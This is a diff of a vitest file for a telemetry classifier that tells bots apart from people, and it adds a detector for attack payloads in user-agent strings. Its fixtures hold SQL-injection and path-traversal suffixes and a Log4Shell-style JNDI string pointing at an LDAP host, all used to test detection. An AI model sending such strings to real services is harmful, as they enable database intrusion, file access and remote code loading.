@@ -2,7 +2,8 @@ import { isbot as isbotItself, list } from 'isbot';
 import { describe, expect, it } from 'vitest';
 import { fixtureAgentsAsReceived } from '../helpers/fixture-agents.ts';
 import { isbot, splitIsbotList } from '../../api/telemetry/classification/isbot-split.ts';
-import { isbotOrShowsWork, showsWork } from '../../api/telemetry/classification/classify.ts';
+import { mayBeBot, showsWork } from '../../api/telemetry/classification/classify.ts';
+import { carriesAttackPayload } from '../../api/telemetry/classification/attack-payload.ts';
 
 const userAgents = fixtureAgentsAsReceived;
 
@@ -15,16 +16,22 @@ describe('isbot in two parts', () => {
     expect(userAgents.some((ua) => !isbot(ua))).toBe(true);
   });
 
-  it("answers the classifier's person gate, isbot or a word of work, in one scan as the two do apart", () => {
-    const withWork = [
+  it("answers the classifier's person gate, isbot or a word of work or an attack's payload, in one scan as the three do apart", () => {
+    const withMore = [
       ...userAgents,
       ...userAgents.slice(0, 500).map((ua) => `${ua} SiteThumbnailer`),
+      ...userAgents.slice(500, 1000).map((ua) => `${ua}' OR 1=1--`),
+      ...userAgents.slice(1000, 1500).map((ua) => `../../${ua}`),
       '',
       'ExtractorX',
+      '${jndi:ldap://198.51.100.7:1389/a}',
     ];
-    expect(withWork.filter((ua) => isbotOrShowsWork(ua) !== (isbot(ua) || showsWork(ua)))).toEqual([]);
-    // Strings only a word of work flags are among them.
-    expect(withWork.some((ua) => !isbot(ua) && showsWork(ua))).toBe(true);
+    expect(withMore.filter((ua) => mayBeBot(ua) !== (isbot(ua) || showsWork(ua) || carriesAttackPayload(ua)))).toEqual(
+      [],
+    );
+    // Strings only a word of work or only a payload flags are among them.
+    expect(withMore.some((ua) => !isbot(ua) && showsWork(ua))).toBe(true);
+    expect(withMore.some((ua) => !isbot(ua) && !showsWork(ua) && carriesAttackPayload(ua))).toBe(true);
   });
 
   it('answers as isbot where each anchored pattern starts the string, and where it does not', () => {
